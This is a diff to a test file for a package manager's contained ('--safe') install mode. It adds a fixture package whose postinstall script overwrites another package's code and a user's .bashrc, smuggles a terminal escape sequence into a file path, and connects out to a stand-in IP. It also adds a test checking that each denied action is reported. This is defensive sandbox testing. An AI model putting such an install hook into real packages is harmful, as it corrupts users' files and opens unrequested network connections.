@@ -6,6 +6,19 @@ import { makeProject } from '../fixtures/project.js'
 const packages = [
   { name: 'good', version: '1.0.0', manifest: { scripts: { postinstall: 'true' } } },
   { name: 'bad', version: '1.0.0', manifest: { scripts: { postinstall: 'echo its own words; exit 7' } } },
+  {
+    name: 'greedy',
+    version: '1.0.0',
+    manifest: { scripts: { postinstall: 'node steal.js' } },
+    files: {
+      'steal.js': `const fs = require('fs'), net = require('net')
+for (const path of ['../good/index.js', '/usr/\\u001b[2Kx', '/home/stranger/.bashrc']) {
+  try { fs.writeFileSync(path, 'evil') } catch {}
+}
+net.connect(443, '203.0.113.7').on('error', () => {})
+`,
+    },
+  },
   { name: 'killed', version: '1.0.0', manifest: { scripts: { postinstall: 'kill -TERM $$' } } },
 ]
 
@@ -67,4 +80,17 @@ void t.test('what a script changed in package.json is put back and said', async 
   const { code } = await project.run(['install', '--safe'])
   t.equal(code, 0)
   t.ok(existsSync(join(project.directory, 'node_modules/rewriter/package.json')))
+})
+
+void t.test('what a script was denied is said, although it swallowed the errors and exited 0', async t => {
+  const project = await makeProject(t, { packages, manifest: { dependencies: { good: '1.0.0', greedy: '1.0.0' } } })
+  const { code, stderr } = await project.run(['install', '--safe'])
+  t.equal(code, 0)
+  const line = stderr.split('\n').find(text => text.includes('was denied')) ?? ''
+  t.match(line, /^npm warn containment greedy@1\.0\.0 postinstall was denied: /)
+  t.match(
+    line,
+    /writing node_modules\/good\/index\.js, writing \/usr\/\?\[2Kx, writing \/home\/stranger\/\.bashrc, connecting to 203\.0\.113\.7:443$/,
+  )
+  t.match(stderr, /2 scripts of 2 packages ran contained/)
 })
